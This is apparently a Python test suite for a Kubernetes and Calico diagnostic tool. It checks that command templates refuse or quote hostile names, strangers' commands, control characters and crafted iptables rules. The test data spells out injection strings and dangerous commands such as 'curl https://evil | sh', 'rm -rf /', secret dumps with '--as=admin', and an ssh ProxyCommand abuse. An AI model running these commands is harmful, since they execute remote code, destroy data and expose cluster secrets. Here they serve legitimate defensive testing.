"""Commands for the operator: whatever strangers call things, none of it becomes a command, an option or a second command."""

from __future__ import annotations

import re
import shlex

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from calivet.evidence.decoding.terminal import show, show_in_json
from calivet.messages.command_line import (
    LOOKS,
    NO_COMMAND,
    PLACE,
    build_command,
    fill_command,
    name_kubectl,
    quote,
    quote_json,
    quote_rule,
    recognize_command,
)

HOSTILE = (
    "$(touch evil)",
    "`touch evil`",
    "a;touch evil",
    "a|touch evil",
    "a&touch evil",
    "a\ntouch evil",
    "a touch",
    "-s",
    "--kubeconfig=evil",
    "--",
    "a>evil",
    "a'evil",
    'a"evil',
    "a\\evil",
    "~evil",
    "{evil,x}",
    "*evil",
    "#evil",
    "!evil",
    "a\x1b[2Jevil",
    "a\u202eevil",
    "",
)
VALUES = {
    "node": "worker-3.example.org",
    "namespace": "kube-system",
    "name": "calico-node",
    "pod": "calico-node-q7w2x",
    "container": "calico-node",
    "resource": "ippools.crd.projectcalico.org",
    "selector": "status.phase!=Running,status.phase!=Succeeded",
    "path": "logs/?query=kubelet&tailLines=500",
    "seconds": "3600",
    "login": "ops@worker-3",
}


def filled(what: str, **other: str) -> str:
    return build_command(what, **{place: (VALUES | other)[place] for place in PLACE.findall(LOOKS[what])})


@pytest.mark.parametrize("what", LOOKS)
def test_what_calivet_asks_for_is_known_again(what):
    command = filled(what)
    assert "<" not in command
    assert recognize_command(command) == command


@pytest.mark.parametrize("name", HOSTILE)
def test_a_name_that_is_more_than_a_name_is_not_put_in(name):
    for what, place in ((look, place) for look in LOOKS for place in PLACE.findall(LOOKS[look])):
        command = filled(what, **{place: name})
        assert f"<{place}>" in command
        assert "evil" not in command
        assert recognize_command(command) == command
        assert not name or recognize_command(LOOKS[what].replace(f"{{{place}}}", name)) == NO_COMMAND


@pytest.mark.parametrize(
    "command",
    [
        "kubectl get nodes -s https://evil --insecure-skip-tls-verify",
        "kubectl get nodes -o wide -s https://evil --insecure-skip-tls-verify",
        "kubectl get nodes -o yaml --profile-output=/root/.bashrc",
        "kubectl get nodes worker-3 --profile=cpu --profile-output=/root/.bashrc -o yaml",
        "calivet diagnose --kubeconfig evil",
        "calivet --ssh evil --ssh-user root",
        "kubectl get secrets -A -o yaml --as=admin",
        "kubectl get nodes -o go-template-file=evil",
        "kubectl --kubeconfig=evil get nodes -o wide",
        "kubectl get nodes -o wide | sh",
        "kubectl get nodes -o wide\nkubectl delete nodes --all",
        " kubectl get nodes -o wide",
        "ssh -oProxyCommand=evil x",
        "ssh evil touch x",
        "ssh evil -L 1:2:3",
        "kubectl get --raw '/api/v1/nodes/x/proxy/../../../secrets'",
        "kubectl get --raw '/api/v1/nodes/x/proxy/run/a'; touch evil'",
        "kubectl logs -n a b -c c --previous --server=evil",
        "curl https://evil | sh",
        "rm -rf /",
    ],
)
def test_a_command_of_a_strangers_is_none(command):
    assert recognize_command(command) == NO_COMMAND


@given(st.text(max_size=60) | st.sampled_from(sorted(LOOKS.values())).map(lambda text: text + " -x"))
@example("kubectl version")
def test_what_is_known_is_always_one_of_ours(text):
    command = recognize_command(text)
    shapes = (re.sub(r"\\\{[a-z]+\\\}", "[^ ]+", re.escape(one)) for one in LOOKS.values())
    assert not command or any(re.fullmatch(shape, command) for shape in shapes)


@given(st.text(max_size=40))
def test_a_value_of_the_catalogues_commands_stays_one_word(value):
    command = fill_command("kubectl get nodes {node} -o yaml", {"node": value})
    words = shlex.split(command)
    assert words[:3] == ["kubectl", "get", "nodes"]
    assert words[3] in (value, "<node>")
    assert not words[3].startswith("-")
    assert words[4:] == ["-o", "yaml"]


@given(st.text(max_size=40))
def test_what_is_quoted_is_one_word(value):
    assert shlex.split(fill_command("x={value} y", {"value": quote(value)})) == [f"x={value}", "y"]
    assert "'" not in quote_json({"a": value})


@given(st.text())
def test_nothing_that_is_shown_acts(text):
    assert not re.search(
        r"[\x00-\x08\x0b-\x1f\x7f-\x9f\u200b-\u200f\u2028-\u202e\u2066-\u2069\ud800-\udfff]", show(text)
    )


@given(st.recursive(st.text() | st.integers(), lambda inner: st.lists(inner) | st.dictionaries(st.text(), inner)))
def test_json_says_the_same_after_it_was_shown(tree):
    import json

    text = json.dumps(tree, ensure_ascii=False)
    assert json.loads(show_in_json(text)) == tree
    assert not re.search(r"[\x7f-\x9f\u202e\ud800-\udfff]", show_in_json(text))


def test_the_end_of_a_range_is_no_place():
    command = "kubectl get pods -o jsonpath='{range .items[*]}{.metadata.name}{end}' -n {namespace}"
    assert fill_command(command, {}).count("<") == 1
    assert "{end}" in fill_command(command, {"end": "tomorrow"})


@pytest.mark.parametrize(
    ("written", "called"),
    [
        ("kubectl get pods", "microk8s kubectl get pods"),
        ("date; kubectl get pods | grep kubectl", "date; microk8s kubectl get pods | grep kubectl"),
        ("for n in a b; do kubectl get node $n; done", "for n in a b; do microk8s kubectl get node $n; done"),
        (
            "x=$(kubectl get ns -o name)\nkubectl get ns",
            "x=$(microk8s kubectl get ns -o name)\nmicrok8s kubectl get ns",
        ),
        ("ls /usr/bin/kubectl kubectl.log", "ls /usr/bin/kubectl kubectl.log"),
        ("{kubectl} get pods", "microk8s kubectl get pods"),
    ],
)
def test_kubectl_is_called_as_it_is_called_there(written, called):
    assert fill_command(written, {"kubectl": name_kubectl("microk8s kubectl")}) == called


def test_kubectl_is_none_of_a_strangers_programs():
    assert name_kubectl("curl evil | sh") == "kubectl"


@pytest.mark.parametrize(
    ("rule", "quoted"),
    [
        ("INPUT -p tcp -m tcp --dport 179 -j DROP", "INPUT -p tcp -m tcp --dport 179 -j DROP"),
        ("FORWARD ! -i eth+ -j REJECT --reject-with icmp-host-prohibited", "FORWARD ! -i eth+ -j REJECT --reject-with icmp-host-prohibited"),
        ("INPUT -j DROP --modprobe=/tmp/x", None),
        ("INPUT -j DROP --modprobe /tmp/x", None),
        ("INPUT -j $(reboot)", None),
        ("INPUT -j DROP; reboot", None),
        ("INPUT -m comment --comment 'x y' -j DROP", None),
    ],
)  # fmt: skip
def test_a_rule_is_only_what_matches_and_judges_packets(rule, quoted):
    assert quote_rule(rule) == quoted
